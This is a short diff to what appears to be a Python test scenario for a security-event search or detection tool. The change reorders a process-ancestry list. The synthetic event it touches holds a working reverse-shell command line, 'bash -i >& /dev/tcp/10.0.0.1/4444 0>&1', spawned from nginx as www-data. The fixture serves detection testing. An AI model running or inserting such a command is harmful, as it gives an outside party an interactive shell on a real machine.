@@ -126,7 +126,7 @@ def scenario(now: float) -> dict[str, Any]:
         key=lambda e: e.ts,
     )
     shell = make_event(ts=base + 330, pid=31337, host="web-2", user="www-data", uid=33, process_name="bash",
-                       exe="/usr/bin/bash", parent_process="nginx", ancestors=["systemd", "nginx"],
+                       exe="/usr/bin/bash", parent_process="nginx", ancestors=["nginx", "systemd"],
                        cmdline="bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")
     # Other odd things of the same afternoon, so the search has something to rank against.
     others = [
